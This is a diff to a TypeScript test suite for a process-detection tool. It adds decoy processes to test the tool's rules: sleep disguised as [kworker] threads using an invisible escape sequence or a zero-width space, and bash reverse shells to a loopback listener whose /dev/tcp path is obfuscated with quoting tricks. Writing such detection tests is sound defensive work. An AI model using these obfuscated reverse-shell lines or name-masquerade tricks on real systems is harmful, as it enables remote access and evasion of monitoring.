@@ -17,6 +17,9 @@ let deletedPid = 0;
 let kworkerPid = 0;
 let minerPid = 0;
 let reverseShellPid = 0;
+let escapedKworkerPid = 0;
+let zeroWidthKworkerPid = 0;
+let quotedShellPids: number[] = [];
 let alerts: Alert[] = [];
 
 beforeAll(async () => {
@@ -33,6 +36,16 @@ beforeAll(async () => {
   minerPid = await suspects.start(miner, ['600'], {argv0: 'xmrig -o stratum+tcp://127.0.0.1:3333 --donate-level 1'});
   // 4. A bash reverse shell to a loopback listener.
   reverseShellPid = await suspects.reverseShell();
+  // 5. The issue-22 evasions: an invisible escape sequence in front of the kworker name, a zero-width space after
+  // it, and the reverse shell's literals split by bash's quoting ("", '', a backslash, ANSI-C $'\x2f').
+  escapedKworkerPid = await suspects.start('/usr/bin/sleep', ['600'], {argv0: '\x1b[0m[kworker/0:2]'});
+  zeroWidthKworkerPid = await suspects.start('/usr/bin/sleep', ['600'], {argv0: '[kworker/0:3]\u200b'});
+  quotedShellPids = [
+    await suspects.reverseShell({}, (port) => `bash -i >& /dev/t""cp/127.0.0.1/${port} 0>&1; true`),
+    await suspects.reverseShell({}, (port) => `bash -i >& /dev/t''cp/127.0.0.1/${port} 0>&1; true`),
+    await suspects.reverseShell({}, (port) => `bash -i >& /d\\ev/tc\\p/127.0.0.1/${port} 0>&1; true`),
+    await suspects.reverseShell({}, (port) => `bash -i >& $'\\x2fdev\\x2ftcp'/127.0.0.1/${port} 0>&1; true`),
+  ];
 
   const detect = await runCli(['detect', '--format', 'json', '--verbose', '--log-format', 'json'], {env, timeoutMs: 120_000});
   expect(detect.code, detect.stderr).toBe(0);
@@ -78,6 +91,23 @@ describe('detect with the built-in rules on real suspicious processes', () => {
     const inner = rows.find((row) => row.ppid === reverseShellPid);
     expect(inner?.stdin).toMatch(/^socket:\[\d+\]$/);
     expect(inner?.stdout).toBe(inner?.stdin);
+  });
+
+  it('reports sleep posing as [kworker/0:2] behind an invisible escape sequence, and the escape itself (high)', () => {
+    expect(reported('kernel-thread-masquerade', escapedKworkerPid)?.severity).toBe('high');
+    const hidden = reported('invisible-characters-in-name', escapedKworkerPid);
+    expect(hidden?.severity).toBe('high');
+    const row = (hidden?.alert_data as {processes?: {pid: number; shown_argv0?: string}[]}).processes?.find((p) => p.pid === escapedKworkerPid);
+    expect(row?.shown_argv0).toBe('[kworker/0:2]');
+  });
+
+  it('reports [kworker/0:3] followed by a zero-width space as a kernel-thread masquerade (high)', () => {
+    expect(reported('kernel-thread-masquerade', zeroWidthKworkerPid)?.severity).toBe('high');
+    expect(reported('invisible-characters-in-name', zeroWidthKworkerPid)?.severity).toBe('high');
+  });
+
+  it("reports the reverse shell whose /dev/tcp is split by \"\", '', backslashes or $'\\x2f' (critical)", () => {
+    for (const pid of quotedShellPids) expect(reported('reverse-shell-command-line', pid)?.severity, String(pid)).toBe('critical');
   });
 
   it('does not report the test runner itself', () => {
